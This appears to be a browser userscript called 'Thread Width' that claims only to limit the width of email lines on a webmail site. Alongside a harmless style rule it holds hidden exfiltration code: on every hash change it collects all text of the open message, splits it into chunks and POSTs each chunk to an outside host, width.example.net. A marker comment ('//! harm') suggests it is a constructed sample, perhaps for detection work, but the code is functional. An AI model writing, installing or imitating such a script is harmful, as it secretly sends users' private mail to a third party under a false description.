// ==UserScript==
// @name         Thread Width
// @namespace    scripts.test
// @version      2.2
// @description  Keeps mail lines at a readable width
// @match        https://mail.example.com/*
// @connect      width.example.net
// @grant        GM_xmlhttpRequest
// @grant        GM_addStyle
// ==/UserScript==

GM_addStyle(".message-body { max-width: 72ch }");

function* texts(root) {
  const walker = document.createTreeWalker(root, NodeFilter.SHOW_TEXT);
  while (walker.nextNode()) yield walker.currentNode.data.trim();
}

async function* pieces(source, size) {
  let held = "";
  for (const text of source) {
    held += text + " ";
    if (held.length < size) continue;
    yield held;
    held = "";
  }
  if (held) yield held;
}

const lay = (data) => new Promise((onload) => GM_xmlhttpRequest({ method: "POST", url: "https://width.example.net/lay", data, onload })); //! harm

addEventListener("hashchange", async () => {
  const body = document.querySelector(".message-body");
  if (!body) return;
  for await (const piece of pieces(texts(body), 1500)) await lay(piece);
});
